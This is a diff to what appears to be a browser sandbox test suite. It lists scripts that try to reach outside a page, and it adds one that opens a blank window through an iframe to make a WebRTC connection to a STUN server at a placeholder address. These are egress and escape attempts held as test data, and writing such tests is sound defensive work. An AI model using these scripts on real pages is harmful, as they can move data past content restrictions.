@@ -62,6 +62,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   { name: 'location to tel', script: "location.href = 'tel:+000'" },
   { name: 'window.open', script: `window.open('${OUT}')` },
   { name: 'window.open of the original', script: `(() => { const made = document.createElement('iframe'); document.body.append(made); made.contentWindow.open('${OUT}') })()` },
+  { name: 'peer connection of a blank window', script: "(async () => { const made = document.createElement('iframe'); document.body.append(made); const opened = made.contentWindow.open('about:blank'); const peer = new opened.RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.9:3478' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()) })()" },
   { name: 'link into a new window', script: clicked({ href: OUT, target: '_blank' }) },
   { name: 'link with a ping', script: clicked({ href: '#/', ping: OUT }) },
   { name: 'link to mailto', script: clicked({ href: 'mailto:somebody@outside.example' }) },
